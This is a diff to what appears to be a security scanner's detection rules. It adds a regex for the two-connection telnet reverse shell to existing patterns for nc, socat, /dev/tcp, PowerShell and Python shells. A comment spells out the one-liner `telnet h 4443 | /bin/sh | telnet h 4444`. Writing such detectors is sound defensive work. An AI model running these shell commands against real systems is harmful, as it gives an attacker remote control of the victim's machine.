@@ -194,6 +194,9 @@ GLOBAL_INSTALL = linear_re.compile(r"\b(npm|pnpm|bun)\s+(install|i|add)\s+[^|;&\
                                    r"\bnpm\s+(install|i)\s+(-g|--global)\b", ignore_case=True)
 """A package installed globally from an install hook: code the user never asked for, on their PATH."""
 REVERSE_SHELL = linear_re.compile(r"/dev/(tcp|udp)/|/inet[46]?/(tcp|udp)/\d+/|\b(ba|z)?sh\s+-i\b|\b(nc|ncat|netcat)\b[^|;&]*\s-[ec]\s|mkfifo\b[^;&|]*;|\bsocat\b[^|;&]*exec:"
+                                  # the two-connection shell: `telnet h 4443 | /bin/sh | telnet h 4444`
+                                  r"|\b(telnet|nc|ncat|netcat)\b([^|;&\n]|[0-9]?>&[0-9])*\|\s*(/bin/|/usr/bin/)?(ba|z|da)?sh\b([^|;&\n]|[0-9]?>&[0-9])*\|\s*"
+                                  r"(telnet|nc|ncat|netcat)\b"
                                   # PowerShell's: a TCP client whose stream's bytes are run (`iex $d`) and the output written back
                                   r"|Net\.Sockets\.TCPClient\b.{0,600}\b(iex|Invoke-Expression)\b"
                                   # Python's: a socket's descriptor made the shell's stdio (`os.dup2(s.fileno(), 0)`)
